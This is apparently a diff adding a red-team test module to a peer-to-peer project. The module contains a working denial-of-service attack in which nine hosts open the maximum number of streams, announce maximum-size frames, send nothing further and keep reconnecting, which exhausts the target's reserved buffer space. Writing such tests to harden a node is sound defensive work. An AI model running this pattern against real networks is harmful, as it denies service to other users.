@@ -1,0 +1,40 @@
+"""Nine keys that announce the largest frames on every stream they may have, four bytes each, and send no more (K-A): what is announced is
+reserved, and so the bytes of everybody's frames were gone."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import trio
+from libp2p.utils.varint import encode_uvarint
+
+from p2p.base.limits import MAX_INBOUND_STREAMS_PER_PEER
+from p2p.wire.frames import Ask, Forward
+from tests.redteam.target import Target, quietly
+
+KEYS = 9
+AGAIN_S = 12.0  # before the first ones are given up
+ANNOUNCED = max(Ask.BYTES, Forward.BYTES)
+
+
+async def attack(target: Target) -> None:
+    async with trio.open_nursery() as nursery:
+        for number in range(KEYS):
+            nursery.start_soon(_key, target, number)
+
+
+async def _key(target: Target, number: int) -> None:
+    async with target.bare(f"announced {number}") as host:
+        while True:
+            held: list[Any] = []
+            for peer in list(host.get_connected_peers()):
+                for _ in range(MAX_INBOUND_STREAMS_PER_PEER):
+                    stream = await quietly(host.new_stream, peer, ["/folkmoot/infer/1"], timeout_s=1.0)
+                    if stream is None:
+                        break
+                    await quietly(stream.write, encode_uvarint(ANNOUNCED))
+                    held.append(stream)
+            await trio.sleep(AGAIN_S)
+            for stream in held:
+                await quietly(stream.reset)
+            await target.connect_bare(host)
